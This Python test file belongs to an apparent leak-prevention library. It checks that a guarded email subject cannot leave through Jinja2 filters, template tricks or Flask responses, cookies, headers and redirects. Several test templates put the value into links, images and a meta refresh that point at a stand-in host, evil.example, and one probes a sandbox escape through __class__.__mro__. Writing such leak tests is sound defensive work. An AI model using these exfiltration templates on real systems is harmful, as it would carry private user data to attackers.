"""E: what a template can try with a guarded value: every filter, test, tag and place that is not for it."""

from typing import Any

import pytest
from jinja2 import Environment
from jinja2.exceptions import TemplateError
from jinja2.sandbox import SandboxedEnvironment

from limited_use.sealing import SealedError
from limited_use.sinks import browser
from limited_use.sinks.browser import PageSpoiled
from tests.leaks.pages import browser_page, environment
from tests.leaks.registry import attempt

SPOILED = ("refuse", "browser", "page_spoiled")
REFUSED = (SealedError, TypeError, AttributeError, ValueError, TemplateError)


def refused(name: str, technique: str, template: str, corpus: int | tuple[int, ...] = 71) -> None:
    """Register a template that uses a value otherwise than by putting it out: it raises while it is composed."""

    def act(house: Any) -> None:
        mail = house.mail()
        browser_page(house, mail.subject, template, w=mail.snippet)

    attempt(f"E71-{name}", sink="template", technique=technique, corpus=corpus, refused=REFUSED)(act)


def spoiled(name: str, technique: str, template: str, corpus: int | tuple[int, ...] = 71) -> None:
    """Register a template that puts a value where it may not stand, or changes what stands for it: it is not sent."""

    def act(house: Any) -> None:
        browser_page(house, house.mail().subject, template)

    attempt(f"E71-{name}", sink="template", technique=technique, corpus=corpus, refused=PageSpoiled, leaf=SPOILED)(act)


refused("tojson", "|tojson", "{{ v|tojson }}")
refused("tojson-inside", "|tojson of a list", "{{ [v]|tojson }}")
refused("safe", "|safe", "{{ v|safe }}")
refused("escape", "|e", "{{ v|e }}")
refused("string", "|string", "{{ v|string }}")
refused("format", "|format", "{{ '%s'|format(v) }}")
refused("percent", "% in a template", "{{ '%s' % v }}")
refused("concat", "~", "{{ v ~ '!' }}")
refused("plus", "+", "{{ 'a' + v }}")
refused("join", "|join", "{{ [v, v]|join(', ') }}")
refused("upper", "|upper", "{{ v|upper }}")
refused("title", "|title", "{{ v|title }}")
refused("replace", "|replace", "{{ v|replace('a', 'b') }}")
refused("truncate", "|truncate", "{{ v|truncate(3) }}")
refused("wordcount", "|wordcount", "{{ v|wordcount }}")
refused("length", "|length", "{{ v|length }}")
refused("first", "|first", "{{ v|first }}")
refused("list", "|list", "{{ v|list }}")
refused("batch", "|batch", "{{ v|batch(2)|list }}")
refused("sort", "|sort", "{{ [v, w]|sort }}")
refused("unique", "|unique", "{{ [v, v]|unique|list }}")
refused("groupby", "|groupby", "{{ [{'a': v}, {'a': v}]|groupby('a') }}")
refused("map-attribute", "|map(attribute)", "{{ [v]|map(attribute='_wire')|list }}")
refused("select", "|select by equality", "{{ [v]|select('eq', 'x')|list }}")
refused("attr", "|attr", "{{ v|attr('_wire') }}")
refused("attribute", "an attribute", "{{ v._wire }}")
refused("item", "an item", "{{ v['_wire'] }}")
refused("class", "climbing by __class__", "{{ v.__class__.__mro__ }}")
refused("call", "calling it", "{{ v() }}")
refused("if", "if", "{% if v %}yes{% endif %}")
refused("equal", "==", "{{ v == 'x' }}")
refused("in", "in", "{{ 'x' in v }}")
refused("for", "for", "{% for one in v %}{{ one }}{% endfor %}")
refused("urlencode", "|urlencode", "{{ v|urlencode }}")
refused("xmlattr", "|xmlattr", "<p {{ {'title': v}|xmlattr }}>")
refused("wordwrap", "|wordwrap", "{{ v|wordwrap }}")
refused("striptags", "|striptags", "{{ v|striptags }}")
refused("dictsort", "|dictsort by value", "{{ {'a': v, 'b': v}|dictsort(by='value') }}")
refused("sum", "|sum", "{{ [v]|sum }}")
refused("min", "|min", "{{ [v, v]|min }}")
refused("presentation", "a presentation of one's own", "{{ v|show('rot13') }}")
refused("show-text", "a presentation of a plain text", "{{ 'x'|show('text') }}")
refused("shown-attr", "reaching into what is to be shown", "{{ (v|show('text')).value }}")

spoiled("script", "in a script", "<script>var a = '{{ v }}';</script>")
spoiled("style", "in a style", "<style>.a { content: '{{ v }}' }</style>")
spoiled("comment", "in a comment", "<!-- {{ v }} -->")
spoiled("href", "in a link's address", '<a href="https://evil.example/?q={{ v }}">x</a>')
spoiled("src", "in an image's address", '<img src="https://evil.example/{{ v }}.png">')
spoiled("event", "in an event's attribute", "<p onclick=\"send('{{ v }}')\">x</p>")
spoiled("style-attribute", "in a style attribute", '<p style="background: url({{ v }})">x</p>')
spoiled("unquoted", "in an attribute without quotes", "<p title={{ v }}>x</p>")
spoiled("tag", "as a tag's name", "<{{ v }}>")
spoiled("attribute-name", "as an attribute's name", '<p {{ v }}="x">')
spoiled("iframe", "in an iframe", "<iframe>{{ v }}</iframe>")
spoiled("svg", "in an SVG", "<svg><text>{{ v }}</text></svg>")
spoiled("data", "in an attribute that scripts read", '<p data-subject="{{ v }}">x</p>')
spoiled("action", "in a form's address", '<form action="/x/{{ v }}"></form>')
spoiled("srcset", "in a set of images", '<img srcset="https://evil.example/{{ v }} 2x">')
spoiled("meta", "in a refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example/{{ v }}">')
spoiled("template", "in an inert template", "<template>{{ v }}</template>")
spoiled("captured-upper", "captured, then changed", "{% set x %}{{ v }}{% endset %}{{ x|upper }}")
spoiled("captured-dropped", "captured, then dropped", "{% set x %}{{ v }}{% endset %}")
spoiled("captured-twice", "captured, then put out twice", "{% set x %}{{ v }}{% endset %}{{ x }}{{ x }}")
spoiled("captured-cut", "captured, then cut", "{% set x %}{{ v }}{% endset %}{{ x[:20] }}")
spoiled("captured-reversed", "captured, then reversed", "{% set x %}{{ v }}{% endset %}{{ x|reverse }}")
spoiled("captured-tested", "captured, then measured", "{% set x %}{{ v }}{% endset %}{{ x|length }}")
spoiled("filter-block", "a filter block", "{% filter upper %}{{ v }}{% endfilter %}")
spoiled("macro", "a macro's result, changed", "{% macro m(x) %}{{ x }}{% endmacro %}{{ m(v)|replace('-', '_') }}")
spoiled(
    "call-block",
    "a call block, dropped",
    "{% macro m() %}{% set c = caller() %}{% endmacro %}{% call m() %}{{ v }}{% endcall %}",
)
spoiled("markup-text", "mark-up where tags are text", "<title>{{ v|show('mail_link') }}</title>")
spoiled("markup-attribute", "mark-up in an attribute", "<p title=\"{{ v|show('web_link') }}\">x</p>")


@attempt(
    "E58-database",
    sink="template",
    technique="a prompt's template kept in the database",
    corpus=58,
    refused=SealedError,
)
def prompt(value):
    """Somebody renders a template of their own, as prompts are: the value has no text."""
    SandboxedEnvironment().from_string("Write to {{ contact.email }}").render(contact={"email": value})


@attempt(
    "E58-unprepared",
    sink="template",
    technique="an environment of somebody's own",
    corpus=(58, 71),
    refused=SealedError,
)
def unprepared(value):
    Environment(autoescape=True).from_string("{{ v }}").render(v=value)


@attempt(
    "E58-outside", sink="template", technique="a template rendered without the adaptor", corpus=71, refused=SealedError
)
def outside(value):
    environment().from_string("{{ v }}").render(v=value)


@attempt("E58-render-string", sink="template", technique="render_template_string", corpus=71, refused=SealedError)
def rendered_from_text(house):
    from flask import render_template_string

    with house.app.test_request_context("/"):
        render_template_string("{{ v }}", v=house.mail().subject)


@attempt("E58-nested", sink="template", technique="a page made inside a page", corpus=71, refused=SealedError)
def nested(house):
    """The tokens of one page cannot be had opened in another."""

    def inner() -> str:
        return browser_page(house, house.mail().subject)

    made = environment().from_string("{{ inner() }}")
    browser.page(house.guard, house.asking(), made, {"inner": inner})


@attempt("E71-int", sink="template", technique="|int, which hides the refusal", corpus=71)
def as_number(house, trap):
    page = browser_page(house, house.mail().subject, "<p>{{ v|int(7) }}</p>")
    assert page == "<p>7</p>"
    trap.keep(page)


@attempt(
    "E58-forged-token",
    sink="template",
    technique="a token guessed or kept from another page",
    corpus=71,
    refused=PageSpoiled,
    leaf=SPOILED,
    opens=True,
)
def forged(house):
    """Text that looks like a token of a page is none of this page's: it is not sent."""
    mail = house.mail()
    environment_ = environment()
    kept: list[str] = []
    environment_.globals["keep"] = kept.append
    browser.page(
        house.guard,
        house.asking(),
        environment_.from_string("{% set x %}{{ v }}{% endset %}{{ keep(x) or '' }}{{ x }}"),
        {"v": mail.subject},
    )
    browser_page(house, mail.snippet, "<p>{{ v }}</p>" + kept[0])


@attempt("E58-url-for", sink="browser", technique="url_for with a value", corpus=71, refused=SealedError)
def in_an_address(house):
    from flask import url_for

    with house.app.test_request_context("/"):
        url_for("search.index", q=house.mail().subject)


@attempt(
    "E58-flash", sink="browser", technique="flash and the session's cookie", corpus=71, refused=(SealedError, TypeError)
)
def flashed(house):
    from flask import flash, session

    with house.app.test_request_context("/"):
        flash(house.mail().subject)
        house.app.session_interface.get_signing_serializer(house.app).dumps(dict(session))


@attempt("E58-signed", sink="browser", technique="itsdangerous", refused=TypeError)
def signed(value):
    from itsdangerous import URLSafeSerializer

    URLSafeSerializer("key").dumps(value)


@attempt("E58-response", sink="browser", technique="a view that returns the value", refused=TypeError)
def returned(house):
    with house.app.test_request_context("/"):
        house.app.make_response(house.mail().subject)


@attempt(
    "E58-redirect", sink="browser", technique="a redirect's address", refused=(SealedError, TypeError, AttributeError)
)
def redirected(house):
    from flask import redirect

    with house.app.test_request_context("/"):
        redirect(house.mail().subject)


@attempt("E58-header", sink="browser", technique="a header of an answer", refused=(SealedError, TypeError))
def in_a_header(house):
    from flask import Response

    Response(headers={"X-Subject": house.mail().subject})


@attempt("E58-cookie", sink="browser", technique="a cookie", refused=(SealedError, TypeError, AttributeError))
def in_a_cookie(house):
    from flask import Response

    Response().set_cookie("s", house.mail().subject)


@attempt("E58-jsonify", sink="api", technique="jsonify", refused=TypeError)
def jsonified(house):
    from flask import jsonify

    with house.app.test_request_context("/"):
        jsonify(subject=house.mail().subject)


@attempt("E58-public", sink="browser", technique="a page for nobody", corpus=71, refused=SealedError)
def public(house):
    from web import render

    with house.app.test_request_context("/"), pytest.MonkeyPatch.context() as patch:
        patch.setattr(house.app.jinja_env, "get_template", lambda _name: house.app.jinja_env.from_string("{{ v }}"))
        render.public_page("any.html", v=house.mail().subject)
